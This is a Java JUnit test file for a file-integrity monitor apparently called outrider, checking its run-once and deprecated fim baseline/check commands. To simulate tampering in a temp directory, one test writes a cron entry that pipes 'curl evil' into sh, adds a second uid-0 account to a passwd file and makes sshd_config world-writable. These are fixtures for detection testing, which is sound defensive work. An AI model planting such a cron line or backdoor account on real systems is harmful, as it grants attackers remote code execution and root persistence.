package io.outrider.it;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code outrider run-once} over the real fim plugin (whose scans are rounds), the deprecated {@code outrider fim
 * baseline|check} alias on top of it, and the agent delivering what a check found.
 */
class TestFimCommand
{
    private static final String DEPRECATION = "outrider fim is deprecated and will be removed in the next minor version: use 'outrider run-once' "
            + "(its first round of an input builds the baseline; 'outrider run-once --exit-code' checks)\n";

    @Test
    void runOnceBuildsTheBaselineThenExitsOneAndPrintsAModifiedFile(@TempDir Path dir)
            throws Exception
    {
        Path tree = Files.createDirectories(dir.resolve("etc"));
        Files.writeString(tree.resolve("passwd"), "root:x:0:0::/root:/bin/sh\n");
        Files.writeString(tree.resolve("hosts"), "127.0.0.1 localhost\n");
        Files.writeString(dir.resolve("auth.log"), "");
        Path config = Files.writeString(dir.resolve("outrider.yaml"), """
                agent: { data_dir: %s }
                pipelines:
                  integrity:
                    inputs:
                      etc: { type: fim, paths: ["%s"], watch_agent_files: false }
                    outputs:
                      out: { type: console, format: text }
                  logs:
                    inputs:
                      auth: { type: file, paths: ["%s"] }
                    outputs:
                      out: { type: console, format: text }
                """.formatted(dir.resolve("data"), tree, dir.resolve("auth.log")));

        Outrider.Result baseline = Outrider.run(dir, Map.of(), "run-once", "--exit-code", "-c", config.toString());
        assertThat(baseline.exitCode()).as(baseline.stderr()).isZero();
        assertThat(baseline.stdout()).startsWith("integrity.etc — round complete, 0 events\n  fim.scan.files  ").containsPattern("fim\\.scan\\.files\\s+2\n");
        assertThat(baseline.stderr()).isEmpty();

        Files.writeString(tree.resolve("hosts"), "127.0.0.1 localhost\n10.0.0.66 updates.example.com\n");
        Outrider.Result check = Outrider.run(dir, Map.of(), "run-once", "--exit-code", "-c", config.toString());
        assertThat(check.exitCode()).as(check.stderr()).isEqualTo(1);
        assertThat(check.stdout()).startsWith("integrity.etc — round complete, 1 event\n  modified            " + tree.resolve("hosts") + "\n")
                .containsPattern("fim\\.scan\\.modified\\s+1\n").containsPattern("fim\\.scan\\.created\\s+0\n");

        // a file input reads a stream, not rounds: refused by name, with the installed types that have rounds
        Outrider.Result file = Outrider.run(dir, Map.of(), "run-once", "--input", "logs.auth", "-c", config.toString());
        assertThat(file.exitCode()).isEqualTo(2);
        assertThat(file.stderr()).isEqualTo("input logs.auth does not work in rounds; run-once runs inputs that do, such as fim\n");
    }

    @Test
    void aScanWhoseSummaryEventsAreOffNeverCompletesARound(@TempDir Path dir)
            throws Exception
    {
        Path tree = Files.createDirectories(dir.resolve("etc"));
        Files.writeString(tree.resolve("passwd"), "root:x:0:0::/root:/bin/sh\n");
        Path config = Files.writeString(dir.resolve("outrider.yaml"), """
                agent: { data_dir: %s }
                pipelines:
                  integrity:
                    inputs:
                      etc: { type: fim, paths: ["%s"], watch_agent_files: false, summary_events: false }
                    outputs:
                      out: { type: console }
                """.formatted(dir.resolve("data"), tree));

        Outrider.Result result = Outrider.run(dir, Map.of(), "run-once", "--timeout", "PT2S", "-c", config.toString());

        assertThat(result.exitCode()).isEqualTo(3);
        assertThat(result.stderr()).isEqualTo("integrity.etc: no round completed within PT2S; raise --timeout if a round takes longer, and check that no option "
                + "of this fim input turns off the event that ends its rounds (outrider plugins describe fim)\n");
    }

    @Test
    void baselineThenCheckReportsEveryChangeAndTheAgentStillDeliversThem(@TempDir Path dir)
            throws Exception
    {
        Path tree = Files.createDirectories(dir.resolve("etc"));
        Files.writeString(tree.resolve("passwd"), "root:x:0:0::/root:/bin/sh\n");
        Files.writeString(tree.resolve("hosts"), "127.0.0.1 localhost\n");
        Files.writeString(tree.resolve("motd"), "hello\n");
        Files.writeString(tree.resolve("sshd_config"), "PermitRootLogin no\n");
        Path config = Files.writeString(dir.resolve("outrider.yaml"), """
                agent: { data_dir: %s }
                pipelines:
                  integrity:
                    inputs:
                      etc: { type: fim, paths: ["%s"], watch_agent_files: false }
                    outputs:
                      out: { type: console, format: text, delivery: { max_wait: 50ms } }
                """.formatted(dir.resolve("data"), tree));

        Outrider.Result noBaseline = Outrider.run(dir, Map.of(), "fim", "check", "-c", config.toString());
        assertThat(noBaseline.exitCode()).isEqualTo(2);
        assertThat(noBaseline.stdout()).isEqualTo("integrity.etc: no baseline yet; build it with 'outrider fim baseline'\n");
        assertThat(noBaseline.stderr()).isEqualTo(DEPRECATION);

        Outrider.Result baseline = Outrider.run(dir, Map.of(), "fim", "baseline", "-c", config.toString());
        assertThat(baseline.exitCode()).as(baseline.stderr()).isZero();
        assertThat(baseline.stdout()).startsWith("integrity.etc — baseline built\n  fim.scan.files  ").containsPattern("fim\\.scan\\.files\\s+4\n")
                .containsPattern("fim\\.scan\\.modified\\s+0\n").doesNotContain("scan_complete");
        assertThat(baseline.stderr()).isEqualTo(DEPRECATION);

        Files.writeString(tree.resolve("passwd"), "root:x:0:0::/root:/bin/sh\nmallory:x:0:0::/:/bin/sh\n");
        Files.writeString(tree.resolve("cron.hourly"), "* * * * * curl evil | sh\n");
        Files.delete(tree.resolve("motd"));
        Files.setPosixFilePermissions(tree.resolve("sshd_config"), PosixFilePermissions.fromString("rw-rw-rw-"));

        Outrider.Result check = Outrider.run(dir, Map.of(), "fim", "check", "-c", config.toString());
        assertThat(check.exitCode()).as(check.stderr()).isEqualTo(1);
        assertThat(check.stdout()).containsPattern("modified\\s+" + tree.resolve("passwd"))
                .containsPattern("created\\s+" + tree.resolve("cron.hourly"))
                .containsPattern("deleted\\s+" + tree.resolve("motd"))
                .containsPattern("attributes_changed\\s+" + tree.resolve("sshd_config"))
                .containsPattern("fim\\.scan\\.modified\\s+1\n").containsPattern("fim\\.scan\\.created\\s+1\n").containsPattern("fim\\.scan\\.deleted\\s+1\n")
                .containsPattern("fim\\.scan\\.attributes_changed\\s+1\n").containsPattern("fim\\.scan\\.errors\\s+0\n");

        Outrider.Result clean = Outrider.run(dir, Map.of(), "fim", "check", "-c", config.toString());
        assertThat(clean.exitCode()).as(clean.stdout()).isZero();

        // the changes the check found were committed to the buffer: the agent delivers them
        Outrider agent = Outrider.start(dir.resolve("run"), Map.of("OUTRIDER_DATA_DIR", dir.resolve("data").toString()), "run", "-c", config.toString());
        List<String> delivered = agent.awaitStdout(lines -> lines.stream().anyMatch(line -> line.contains("cron.hourly")) && lines.stream().anyMatch(line -> line.contains("motd")),
                Duration.ofSeconds(60), "the changes found by the check");
        agent.signal("TERM");
        assertThat(agent.waitFor(Duration.ofSeconds(30))).isZero();
        assertThat(delivered).anySatisfy(line -> assertThat(line).contains(" modified ", tree.resolve("passwd").toString()));
    }
}
